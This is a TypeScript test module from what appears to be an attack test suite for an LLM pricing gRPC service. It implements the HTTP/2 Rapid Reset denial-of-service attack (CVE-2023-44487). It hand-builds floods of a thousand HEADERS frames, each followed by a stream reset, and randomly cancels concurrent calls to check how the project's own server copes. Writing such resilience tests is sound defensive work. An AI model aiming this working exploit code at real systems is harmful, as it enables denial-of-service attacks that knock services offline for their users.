import { type ClientHttp2Session, connect } from "node:http2";
import { create, type DescMethod, toBinary } from "@bufbuild/protobuf";
import { type Address, formatAddress } from "../../../src/config/address.js";
import {
  CalculateChargeRequestSchema,
  PricingService,
} from "../../../src/gen/llmprices/v1/pricing_service_pb.js";
import { toFrame } from "../../../src/server/connect/error-response.js";
import { pathOf } from "../../../src/server/threads/offloaded-methods.js";
import {
  beginning,
  callHeaders,
  endHeaders,
  frameType,
  headerBlock,
  http2Frame,
} from "../../support/http2-frames.js";
import type { Attack, Counter } from "../attack.js";
import { concurrently } from "../support/concurrently.js";
import type { Random } from "../support/random.js";
import { talk } from "../wire/socket.js";

/** Calls that are reset at any moment, or a thousand in one packet (CVE-2023-44487). */
export const resetsAttack: Attack = {
  name: "resets",
  writes: "none",
  run: async ({ grpc, http, scaled }, counter, random) => {
    for (const address of [grpc, http]) {
      await concurrently(scaled(floods), 1, async () => {
        await talk(address, flood, quietMs);
        counter.rejected(callsPerFlood);
      });
      await resetAtAnyMoment(address, scaled(callsPerRound), counter, random);
    }
  },
};

async function resetAtAnyMoment(
  address: Address,
  calls: number,
  counter: Counter,
  random: Random,
): Promise<void> {
  let session: ClientHttp2Session | undefined;
  const openSession = () => {
    if (session === undefined || session.closed || session.destroyed) {
      session = connect(`http://${formatAddress(address)}`).on("error", () => {});
    }
    return session;
  };
  await concurrently(calls, concurrency, async () => {
    const method = random.pick(methods);
    const isAnswered = await callAndReset(openSession(), method, random.integer(0, 12));
    if (isAnswered) counter.answered();
    else counter.rejected();
  });
  session?.destroy();
}

/** Returns whether the response came before the reset. */
function callAndReset(
  session: ClientHttp2Session,
  method: DescMethod,
  afterMs: number,
): Promise<boolean> {
  return new Promise((resolve) => {
    const headers = { ":method": "POST", ":path": pathOf(method), te: "trailers" };
    const stream = session.request({ ...headers, "content-type": "application/grpc+proto" });
    const timer = setTimeout(() => stream.close(cancel), afterMs);
    stream.on("error", () => {});
    stream.on("close", () => {
      clearTimeout(timer);
      resolve(stream.readableEnded && stream.rstCode === 0);
    });
    stream.resume();
    stream.write(body);
    if (afterMs % 2 === 0) stream.end();
  });
}

const { calculateCharge, allocateCharges, streamAllocateCharges, importLLMPrices, listLLMPrices } =
  PricingService.method;
const methods = [
  ...[calculateCharge, allocateCharges, streamAllocateCharges, importLLMPrices, listLLMPrices],
];
const body = Buffer.from(
  toFrame(
    0,
    toBinary(
      CalculateChargeRequestSchema,
      create(CalculateChargeRequestSchema, {
        ...{ chargeType: "completion", provider: "openai", model: "gpt-4o", providerCost: "1" },
      }),
    ),
  ),
);
const floods = 8;
const callsPerFlood = 1000;
const call = headerBlock(callHeaders(pathOf(calculateCharge)));
const flood = Buffer.concat([
  beginning,
  ...Array.from({ length: callsPerFlood }, (_, index) => [
    http2Frame(frameType.headers, endHeaders, 2 * index + 1, call),
    http2Frame(frameType.reset, 0, 2 * index + 1, Buffer.from([0, 0, 0, 8])),
  ]).flat(),
]);
const callsPerRound = 2000;
const concurrency = 50;
const quietMs = 500;
const cancel = 8;
